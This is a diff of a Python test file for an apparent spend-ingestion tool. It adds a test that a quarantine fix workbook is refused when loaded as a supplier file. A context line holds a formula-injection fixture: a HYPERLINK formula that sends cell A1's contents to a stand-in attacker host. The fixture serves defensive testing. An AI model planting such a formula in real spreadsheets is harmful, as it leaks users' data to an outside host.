@@ -18,6 +18,8 @@ from anchorage.cli.main import app as cli
 from anchorage.errors import InputFileError
 from anchorage.ingest.quarantine_fix import FIX_SHEET, HELP_SHEET, LINE_COL, ROW_COL, WHAT_COL
 from anchorage.ingest.spend import ingest_spend
+from anchorage.ingest.suppliers import ingest_suppliers
+from anchorage.store.records import Upload
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 SPEND = f"""Supplier Name,Amount,Payment Date,Expense Type
@@ -183,3 +185,16 @@ def test_web_round_trip_and_another_anchor_is_refused(web):
     assert _totals(web.ws) == after
     fix_id = re.search(r'href="(/uploads/[0-9a-f]+)"', done.text).group(1).rsplit("/", 1)[1]
     assert f"upload {fix_id}" in council.get(detail_url).text  # the original shows which rows were fixed
+
+
+def test_other_kinds_refuse_a_fix_workbook_rather_than_load_its_helper_columns(tmp_path):
+    ws = make_workspace(tmp_path / "ws", [("Council", "council")])
+    src = tmp_path / "spend.csv"
+    src.write_text(SPEND)
+    first = ingest_spend(ws, src, "Council")
+    _run("quarantine", "export", "--upload", first.upload_id, "--out", str(tmp_path / "fix.xlsx"),
+         "--workspace", str(ws.root))
+    with pytest.raises(InputFileError, match="only spend files"):
+        ingest_suppliers(ws, tmp_path / "fix.xlsx", "Council")  # a supplier master would be replaced by it
+    with ws.session() as s:
+        assert [u.kind for u in s.query(Upload).all()] == ["spend"]
